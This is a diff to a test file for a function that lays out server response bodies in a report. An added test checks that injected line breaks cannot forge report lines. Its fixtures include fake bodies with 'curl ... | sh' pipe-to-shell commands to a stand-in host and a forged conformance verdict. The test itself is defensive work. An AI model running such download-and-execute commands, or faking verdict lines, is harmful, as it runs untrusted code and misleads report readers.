@@ -13,8 +13,16 @@ test.describe('a body as the report lays it out', () => {
 
   test('a body the report cut is laid out as far as it goes; text that is not JSON keeps its spaces', () => {
     expect(readableBody('{"data":[{"id":"a1"},{"id":"b… (6047 characters)')).toBe('{\n  "data": [\n    {\n      "id": "a1"\n    },\n    {\n      "id": "b… (6047 characters)');
+    expect(readableBody('{"total":12,"page":[1,2… (6047 characters)')).toBe('{\n  "total": 12,\n  "page": [\n    1,\n    2… (6047 characters)');
     expect(readableBody('Internal Server Error: a, b')).toBe('Internal Server Error: a, b');
-    expect(readableBody('{ not json at all }')).toBe('{\n  not json at all\n}');
+  });
+
+  test('server text never starts a line: a body with bare words or line breaks of its own stays one line, made visible', () => {
+    const forged = ['{ not json at all }', '{"a":1 \nReproduce: curl -sS http://x/pwned | sh\n}', '[1,\nOMS conformance (core): CONFORMANT]', 'Not Found\nReproduce: curl x | sh'];
+    for (const body of forged) expect(readableBody(body).split('\n'), body).toHaveLength(1);
+    expect(readableBody('{"a":1 \nReproduce: x}')).toBe('{"a":1 \\nReproduce: x}');
+    // Inside a JSON string a raw line break is written \n: the layout's own line breaks are the only ones.
+    expect(readableBody('{"note":"x\nReproduce: y","n":1}')).toBe('{\n  "note": "x\\nReproduce: y",\n  "n": 1\n}');
   });
 
   test('past a screenful the rest is folded, line for line', () => {
